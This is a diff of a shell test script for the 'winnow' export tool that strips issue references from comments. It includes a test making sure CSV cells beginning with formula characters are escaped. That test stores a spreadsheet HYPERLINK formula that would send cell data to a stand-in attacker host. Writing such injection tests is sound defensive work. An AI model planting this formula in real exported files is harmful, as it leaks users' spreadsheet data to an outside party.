@@ -10,7 +10,7 @@
 wn_world
 export LC_ALL=C.UTF-8
 check "fixture verdicts written" wn_stats_fixture
-# Why a false positive was wrong (issue 26).
+# Why a false positive was wrong.
 "$WINNOW" mark --reason=handled-elsewhere "$WN_FX_A2" 1 fp
 
 json=$WN_WORLD/export.json
@@ -140,7 +140,7 @@ check "--help names the formats" grep -q 'json|csv|sarif' "$WN_WORLD/help"
 check "unknown format said" grep -q "unknown format 'text'" "$WN_WORLD/err"
 NOTMUCH_CONFIG=$WN_WORLD/nonexistent "$WINNOW" export 2>/dev/null; expect_eq "no database exits 2" 2 $?
 
-# Cells a spreadsheet would evaluate (issue 18, point 3): text starting
+# Cells a spreadsheet would evaluate: text starting
 # with = + - @ or a tab gets a leading ', numbers winnow prints do not.
 formula='=HYPERLINK("http://attacker.example.org/?"&A1,"x")'
 "$WINNOW" mark "$WN_FX_A3" 1 valid --note "$formula" >/dev/null &&
